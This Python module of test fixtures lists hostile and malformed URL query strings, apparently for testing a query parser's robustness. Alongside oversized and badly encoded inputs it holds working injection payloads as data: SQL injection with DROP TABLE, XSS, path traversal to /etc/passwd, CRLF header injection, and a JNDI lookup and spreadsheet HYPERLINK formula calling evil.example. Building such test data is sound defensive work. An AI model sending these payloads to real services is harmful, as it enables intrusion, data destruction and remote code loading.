"""Query strings that mean harm, or that a broken program would send; shared by all who read links.

They are what stands behind the ``?`` of an address, as a server gets it: mostly ASCII, though nothing has to be.
"""

from __future__ import annotations

__all__ = ["HOSTILE", "OVER_HTTP"]

HOSTILE: dict[str, str] = {
    "one megabyte in one value": "event=" + "x" * 2**20,
    "one megabyte of ampersands": "&" * 2**20,
    "one megabyte of keys": "a=1&" * 2**18,
    "one megabyte of percent signs": "to=" + "%" * 2**20,
    "ten thousand values": "event=" + ",".join(f"e{number}" for number in range(10_000)),
    "a thousand short values": "event=" + ",".join(f"{number}" for number in range(1_000)),
    "nothing but commas": "to=" + "," * 4_000,
    "a key two thousand times": "to=LT&" * 600,
    "one key twice": "to=LT&to=UA",
    "the version twice": "v=1&v=2&to=LT",
    "a key in another case": "To=LT&STATUS=done",
    "a key with blanks around it": "%20to%20=LT",
    "a key with a bracket, as PHP has it": "to[]=LT&to[0]=UA",
    "keys of Python's objects": "__class__=x&__init__=y&self=1&cls=2",
    "keys of JavaScript's objects": "__proto__[polluted]=1&constructor.prototype=2",
    "names of fields that are no keys": "origin=BY&destination=LT",
    "a key without a value": "to&from&event",
    "a value without a key": "=LT&==UA",
    "only separators": "?&=&;&=&?",
    "two question marks": "??to=LT",
    "a fragment": "to=LT#to=UA",
    "semicolons between keys": "to=LT;from=BY",
    "a NUL in a value": "event=2025%00-12-13",
    "a NUL in a key": "to%00=LT",
    "control characters": "event=%07%08%1b%5b31m&status=%7f",
    "line ends": "event=a%0d%0aSet-Cookie:%20a=b&to=%0aLT",
    "bidirectional marks": "event=%E2%80%AE31-21-5202&group=%E2%81%A6men%E2%81%A9",
    "marks of no width": "event=2025%E2%80%8B-12-13&to=L%EF%BB%BFT",
    "lone surrogates": "event=\ud800&to=\udfff&group=\udc00men",
    "lone surrogates, percent-encoded": "event=%ED%A0%80&group=%ED%BF%BF",
    "bytes that are no UTF-8": "event=%FF%FE&%C0%AF=%80",
    "an overlong slash": "event=..%C0%AF..%C0%AFetc%C0%AFpasswd",
    "percent signs that encode nothing": "to=%&from=%2&event=%zz&kind=%u0041",
    "a comma, encoded twice": "to=LT%252CUA&group=men%252Cwomen",
    "an ampersand, encoded": "to=LT%26status%3Ddone",
    "letters, encoded one by one": "%74%6F=%4C%54",
    "full-width letters": "to=ＬＴ&event=２０２５",
    "letters that look alike": "to=ВY&from=LТ",
    "combining marks": "event=e" + "%CC%81" * 300,
    "SQL": "event=%27%20OR%201=1;%20DROP%20TABLE%20events;--&source=%27%20UNION%20SELECT%20*",
    "HTML": "event=%3Cscript%3Ealert(1)%3C/script%3E&group=%3Cimg%20src=x%20onerror=alert(1)%3E",
    "Markdown that fetches": "group=!%5B%5D(//evil.example/x.png)&tab=%5Bx%5D(javascript:x)",
    "a formula": "group==HYPERLINK(%22//evil.example%22)&event=@SUM(A1)&measure=-1",
    "a path": "data=../../etc/passwd&lang=../../root&tab=/etc",
    "templates": "event=%7B%7B7*7%7D%7D&group=%24%7Bjndi:ldap://evil.example%7D&basis=%25s%25n",
    "numbers that are none": "at=nan,inf,-inf&t=NaN&date=1e400",
    "numbers in other scripts and forms": "at=٥٢.٩,1_0,0x10&t=２０２５-12-13",
    "days that there are none of": "t=2025-02-30&asof=0000-00-00&date=9999-99/..&from=BY",
    "dates that take long to read": "date=" + "2025-12-13/" * 300,
    "an endless date": "date=../..&asof=today&t=now",
    "versions to come, and of no sort": "v=999999999999999999999999&to=LT",
    "a version that is no number": "v=%3Cb%3E&to=LT",
    "another dataset, and no hash": "data=secret@zzzzzzzz&to=LT",
    "every key with a value that is none": (
        "v=0&data=*&from=*&to=*&country=*&place=%20&date=*&event=%20&transfer=;&kind=*&status=*&group=%00"
        "&source=%20&basis=%20&compare=;&asof=*&measure=*&t=*&at=*&figure=%20&lang=*&tab=*"
    ),
}
"""What is wrong with it, to the query string."""

OVER_HTTP: dict[str, str] = {
    name: query for name, query in HOSTILE.items() if query.isascii() and len(query) < 2**15
}
"""Those that a client can send as they are: plain ASCII, and short enough for a request line."""
